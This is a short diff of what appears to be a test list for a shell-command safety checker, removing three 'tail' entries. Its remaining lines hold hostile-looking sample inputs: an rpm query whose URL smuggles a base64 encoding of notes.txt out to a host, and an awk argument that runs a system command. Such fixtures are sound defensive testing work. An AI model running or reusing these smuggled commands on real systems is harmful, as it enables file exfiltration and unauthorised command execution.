@@ -22,9 +22,6 @@ INTERPRETED_OPERANDS = [
     'rpm -q "http://h/$(base64 -w0 notes.txt).rpm"',
     "lsof +r1",
     "lsof +D /",
-    "tail +3f",
-    "tail +f a.txt",
-    "tail +10lf",
 ]
 SKIPPED_OPTIONS = [
     "awk --assign 'BEGIN{system(\"date\")}' '{print}' a.txt",
